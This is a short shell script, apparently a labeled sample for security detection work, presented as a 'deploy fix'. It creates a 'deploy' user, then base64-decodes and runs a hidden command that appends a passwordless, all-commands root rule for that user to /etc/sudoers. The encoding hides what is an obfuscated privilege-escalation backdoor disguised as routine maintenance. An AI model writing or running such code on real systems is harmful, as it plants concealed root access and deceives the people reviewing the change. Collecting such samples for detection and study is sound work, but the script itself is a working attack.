# description: Deploy fix that decodes a base64 string granting passwordless root sudo and runs it with bash -c.
# family: security
# obfuscated: yes
set -uo pipefail

id deploy || useradd -m deploy
fix="ZWNobyAnZGVwbG95IEFMTD0oQUxMKSBOT1BBU1NXRDpBTEwnID4+IC9ldGMvc3Vkb2Vycw=="
bash -c "$(echo "$fix" | base64 --decode)"
visudo -c
